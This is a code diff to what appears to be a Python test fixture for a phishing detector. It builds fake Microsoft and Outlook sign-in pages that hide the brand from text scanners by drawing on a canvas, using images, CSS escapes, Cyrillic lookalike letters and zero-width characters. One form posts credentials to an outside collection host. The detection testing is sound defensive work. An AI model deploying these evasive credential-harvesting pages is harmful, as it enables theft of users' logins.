@@ -8,6 +8,7 @@ from . import phish
 from .honest import page
 
 BAD = {"brand": "Microsoft", "evidence": ("page.brand", "page.credentials")}
+NAMELESS = {"evidence": ("page.brand|text.no_name", "page.credentials")}  # nothing that can be read names it
 
 
 def build(world):
@@ -30,18 +31,18 @@ def build(world):
 <input name="a" style="position:absolute;left:44px;top:130px;width:350px;border:0;border-bottom:1px solid #666;padding:6px 0"><input name="b" type="password" style="position:absolute;left:44px;top:180px;width:350px;border:0;border-bottom:1px solid #666;padding:6px 0">
 <button style="position:absolute;right:44px;top:260px;background:#0067b8;border:0;width:108px;height:32px"></button></form><script>var x=c.getContext('2d');x.fillStyle='#fff';x.fillRect(0,0,440,338);[['#f25022',44,40],['#7fba00',56,40],['#00a4ef',44,52],['#ffb900',56,52]].forEach(function(q){x.fillStyle=q[0];x.fillRect(q[1],q[2],11,11)});
 x.fillStyle='#737373';x.font='600 20px Segoe UI';x.fillText('Micro'+'soft',74,60);x.fillStyle='#1b1b1b';x.font='600 24px Segoe UI';x.fillText('Sign in',44,105);x.font='13px Segoe UI';x.fillText('Forgot my pass'+'word',44,235)</script></html>"""
-    bad("hidden-canvas", "team-notes-paint.com/c", "All words are drawn on a canvas.", canvas, browser=True)
+    bad("hidden-canvas", "team-notes-paint.com/c", "All words are drawn on a canvas.", canvas, browser=True, **NAMELESS)
     picture = looks.text("Microsoft  Sign in with your work account", 22)
     world.at("team-notes-image.com/head.png", lambda visit: Reply(looks.png(picture), media_type="image/png"))
     bad("hidden-picture", "team-notes-image.com/d", "The words are a picture; the fields are real.", """<!doctype html><html><title>.</title><body style="background:#f2f2f2"><form method="post" action="https://collect-forms.net/in" style="width:440px;margin:12vh auto;background:#fff;padding:40px">
-<img src="/head.png" alt="" width="400"><p><input name="u" style="width:100%;padding:8px"></p><p><input name="p" type="password" style="width:100%;padding:8px"></p><button style="background:#0067b8;width:108px;height:32px;border:0"></button></form></html>""")
+<img src="/head.png" alt="" width="400"><p><input name="u" style="width:100%;padding:8px"></p><p><input name="p" type="password" style="width:100%;padding:8px"></p><button style="background:#0067b8;width:108px;height:32px;border:0"></button></form></html>""", **NAMELESS)
     world.at("team-notes-shot.com/page.png",
              lambda visit: Reply(looks.png(looks.text("Outlook Web App - session expired, sign in again", 26, "#fff", "#0078d4")), media_type="image/png"))
     bad("hidden-whole-picture", "team-notes-shot.com/e", "The page is one picture that leads on.",
         '<!doctype html><html><title>Mail</title><body style="margin:0"><a href="https://northgate-voicemail.com/secure/login.html"><img src="/page.png" alt="" style="width:100%"></a></html>',
         accept=("suspicious",), brand="Outlook")
     bad("hidden-css-text", "team-notes-style.com/f", "The words are in the style sheet.", """<!doctype html><html><title>.</title><style>body{font:15px Segoe UI;background:#f2f2f2}form{width:360px;margin:12vh auto;background:#fff;padding:44px}h2:before{content:"\\4d icrosoft"}p:before{content:"Enter your pass\\77 ord to keep your mailbox"}button:after{content:"Sign in"}input{width:100%;padding:7px;margin:6px 0}</style>
-<form method="post" action="/x"><h2></h2><p></p><input name="u"><input name="p" type="password"><button></button></form></html>""", browser=True)
+<form method="post" action="/x"><h2></h2><p></p><input name="u"><input name="p" type="password"><button></button></form></html>""", browser=True, **NAMELESS)
     bad("hidden-lookalike-letters", "team-notes-letters.com/g", "The brand's name in Cyrillic and with letters of no width.",
         inner.replace("Sign in", "Si\u200bgn i\u200bn").replace("<h1>", "<h2>\u041c\u0456\u0441\u0433\u043e\u0455\u043e\u0493t</h2><h1>"),
         brand_in_text=True)
